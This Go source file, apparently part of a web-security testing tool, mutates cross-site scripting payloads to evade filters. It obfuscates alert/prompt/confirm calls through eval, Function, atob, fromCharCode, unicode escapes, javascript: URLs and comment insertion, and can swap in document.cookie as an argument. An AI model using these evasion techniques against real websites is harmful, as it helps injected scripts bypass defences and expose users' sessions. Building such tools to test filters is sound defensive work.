package evasion

import (
	"encoding/base64"
	"math/rand/v2"
	"regexp"
	"strconv"
	"strings"
)

// jsMutations rewrite scripts (ECMA-262). They act on calls of the functions
// that payloads call to show that they run.
var jsMutations = Suite{
	onPayload("js-callee", xssClass, jsCallee),
	onPayload("js-call", xssClass, jsCall),
	onPayload("js-eval", xssClass, jsEval),
	onPayload("js-escape", xssClass, jsEscape),
	onPayload("js-comment", xssClass, jsComment),
	onPayload("js-argument", xssClass, jsArgument),
}

// jsReplaceCall replaces one call. The parts are what is called and its
// arguments.
func jsReplaceCall(text string, r *rand.Rand, change func(callee, arguments string) string) string {
	matches := jsCallRE.FindAllStringSubmatchIndex(text, -1)
	if len(matches) == 0 {
		return text
	}
	m := pick(r, matches...)
	if m[0] > 0 && (text[m[0]-1] == '.' || text[m[0]-1] == '\'' || text[m[0]-1] == '"' || text[m[0]-1] == '`' || text[m[0]-1] == '\\') {
		return text
	}
	out := change(text[m[2]:m[3]], text[m[4]:m[5]])
	if !inMarkup(text, m[0]) {
		// The payload, or the page around it, may have opened a string there.
		before := text[:m[0]]
		switch double, single := strings.Count(before, `"`)%2 == 1, strings.Count(before, "'")%2 == 1; {
		case double && single && strings.ContainsAny(out, `"'`):
			return text
		case double:
			out = strings.ReplaceAll(out, `"`, "'")
		case single:
			out = strings.ReplaceAll(out, "'", `"`)
		}
	}
	if strings.ContainsAny(out, "\"'") { // not to end the attribute that it stands in
		for _, s := range values(text) {
			old := text[s[0]:s[1]]
			if s[0] > m[0] || s[1] < m[1] {
				continue
			}
			switch {
			case strings.HasPrefix(old, `"`):
				out = strings.ReplaceAll(out, `"`, "'")
			case strings.HasPrefix(old, "'"):
				out = strings.ReplaceAll(out, "'", `"`)
			default: // unquoted
				whole := text[s[0]:m[0]] + strings.ReplaceAll(out, `"`, "'") + text[m[1]:s[1]]
				if strings.Contains(whole, `"`) {
					return text
				}
				return text[:s[0]] + `"` + whole + `"` + text[s[1]:]
			}
		}
	} else if strings.ContainsAny(out, " \t\n=`>") {
		for _, s := range values(text) {
			if s[0] <= m[0] && s[1] >= m[1] && unquote(text[s[0]:s[1]]) == text[s[0]:s[1]] {
				return text[:s[0]] + `"` + text[s[0]:m[0]] + out + text[m[1]:s[1]] + `"` + text[s[1]:]
			}
		}
	}
	return text[:m[0]] + out + text[m[1]:]
}

// inMarkup says whether text[at] is in an element's script or in the value of
// an attribute, where quotes are looked after.
func inMarkup(text string, at int) bool {
	for _, s := range append(values(text), groups(htmlScript.FindAllStringSubmatchIndex(text, -1), 1)...) {
		if s[0] <= at && at < s[1] {
			return true
		}
	}
	return false
}

// jsString writes s as a string expression.
func jsString(s string, r *rand.Rand) string {
	i := within(s, r)
	codes := func(separator string) string {
		return sqlCodes(s, separator, func(c byte) string { return strconv.Itoa(int(c)) })
	}
	return pick(r, `"`+s[:i]+`"+"`+s[i:]+`"`, `"`+s[:i]+`".concat("`+s[i:]+`")`, "`"+s[:i]+"${''}"+s[i:]+"`", "String.fromCharCode("+codes(",")+")",
		`"`+s[:i]+`\x`+strconv.FormatInt(int64(s[i]), 16)+s[i+1:]+`"`, `"\u00`+strconv.FormatInt(int64(s[0]), 16)+s[1:]+`"`, `["`+s[:i]+`","`+s[i:]+`"].join("")`,
		`"`+reverse(s)+`".split("").reverse().join("")`, `atob("`+base64.StdEncoding.EncodeToString([]byte(s))+`")`, "("+strconv.FormatInt(base30(s), 10)+").toString(36)", `"`+s[:i]+`Z`+s[i:]+`".replace("Z","")`, "/"+s+"/.source")
}

// base30 reads small letters as a number to base 36.
func base30(s string) int64 {
	v, _ := strconv.ParseInt(s, 36, 64)
	return v
}

func jsCallee(text string, r *rand.Rand) string {
	return jsReplaceCall(text, r, func(callee, arguments string) string {
		object := pick(r, "window", "top", "self", "parent", "globalThis", "this", "frames", "document.defaultView", "(0,eval)('this')", "Window.prototype.constructor&&window", "[].constructor.constructor('return this')()")
		if strings.Contains(object, "&&") {
			object = "(" + object + ")"
		}
		return pick(r, object+"["+jsString(callee, r)+"]("+arguments+")", object+"."+callee+"("+arguments+")", "("+callee+")("+arguments+")", "(0,"+callee+")("+arguments+")",
			callee+"?.("+arguments+")", object+"?.["+jsString(callee, r)+"]?.("+arguments+")", object+"['"+callee+"']("+arguments+")")
	})
}

func jsCall(text string, r *rand.Rand) string {
	return jsReplaceCall(text, r, func(callee, arguments string) string {
		choices := []string{callee + ".call(null," + arguments + ")", callee + ".apply(null,[" + arguments + "])", "[" + arguments + "].find(" + callee + ")", "[" + arguments + "].map(" + callee + ")",
			"Reflect.apply(" + callee + ",null,[" + arguments + "])", "setTimeout(" + callee + ",0," + arguments + ")", "x=" + callee + ";x(" + arguments + ")", "[" + arguments + "].forEach(" + callee + ")",
			"Promise.resolve(" + arguments + ").then(" + callee + ")", "(function(){" + callee + "(" + arguments + ")})()", "(()=>" + callee + "(" + arguments + "))()", "{onerror=" + callee + ";throw " + pick(r, arguments, "1") + "}",
			"new Promise(()=>" + callee + "(" + arguments + "))", "if(1)" + callee + "(" + arguments + ")", "try{" + callee + "(" + arguments + ")}catch(e){}", "queueMicrotask(()=>" + callee + "(" + arguments + "))"}
		if strings.Trim(arguments, "0123456789") == "" {
			choices = append(choices, callee+"`"+arguments+"`", callee+".call`${"+arguments+"}`", "setTimeout`"+callee+"\\x28"+arguments+"\\x29`")
		}
		if arguments == "" {
			return callee + pick(r, "``", "(1)", ".call()", ".apply()")
		}
		return pick(r, choices...)
	})
}

func jsEval(text string, r *rand.Rand) string {
	return jsReplaceCall(text, r, func(callee, arguments string) string {
		code := callee + "(" + arguments + ")"
		if strings.ContainsAny(code, "'\"\\`\n") || len(code) > 60 {
			return code
		}
		s := jsString(code[:len(callee)], r) + `+"(` + arguments + `)"`
		return pick(r, "eval("+s+")", "Function("+s+")()", "setTimeout("+s+")", "[].map.constructor("+s+")()", "new Function("+s+")()", "setInterval("+s+",9e9)",
			`eval(atob("`+base64.StdEncoding.EncodeToString([]byte(code))+`"))`, "eval(String.fromCharCode("+sqlCodes(code, ",", func(c byte) string { return strconv.Itoa(int(c)) })+"))",
			`eval(unescape("`+sqlCodes(code, "", func(c byte) string { return "%" + strconv.FormatInt(int64(c), 16) })+`"))`,
			`eval("`+sqlCodes(code, "", func(c byte) string { return `\x` + strconv.FormatInt(int64(c), 16) })+`")`,
			`import("data:text/javascript,`+code+`")`, `location="javascript:`+code+`"`)
	})
}

// jsEscape writes names with \u escapes (ECMA-262 section 12.7).
func jsEscape(text string, r *rand.Rand) string {
	out, _ := replaceSome(text, jsName.FindAllStringIndex(text, -1), r, 0.5, func(s string) string {
		i := r.IntN(len(s))
		hex := strconv.FormatInt(int64(s[i]), 16)
		return s[:i] + pick(r, `\u00`+hex, `\u{`+hex+`}`, `\u{0`+hex+`}`, `\u{000`+hex+`}`) + s[i+1:]
	})
	return out
}

// jsComment puts comments and blanks between a function and its arguments.
func jsComment(text string, r *rand.Rand) string {
	return jsReplaceCall(text, r, func(callee, arguments string) string {
		c := pick(r, "/**/", "/*"+prose(r, 2)+"*/", "//"+name(r)+"\n", " ", "\n", "\t", "/*"+name(r)+"*/", "\u2028", "\u00a0")
		return pick(r, callee+c+"("+arguments+")", callee+c+"("+c+arguments+c+")", c+callee+"("+arguments+c+")", ";"+callee+"("+arguments+");", "1;"+callee+"("+arguments+")", "/*"+prose(r, 3)+"*/"+callee+"("+arguments+")")
	})
}

// jsArgument shows something else.
func jsArgument(text string, r *rand.Rand) string {
	return jsReplaceCall(text, r, func(callee, arguments string) string {
		return pick(r, "alert", "prompt", "confirm", callee) + "(" + pick(r, "1", strconv.Itoa(r.IntN(99999)), "/"+name(r)+"/", "document.domain", "origin", "document.cookie", "name", "this", "location", "Date()", "`"+name(r)+"`", arguments) + ")"
	})
}

var (
	jsCallRE = regexp.MustCompile(`\b(alert|prompt|confirm|print)\s*\(([^()]*)\)`)
	jsName   = regexp.MustCompile(`\b(alert|prompt|confirm|print|eval|document|location|cookie|fetch|window)\b`)
)
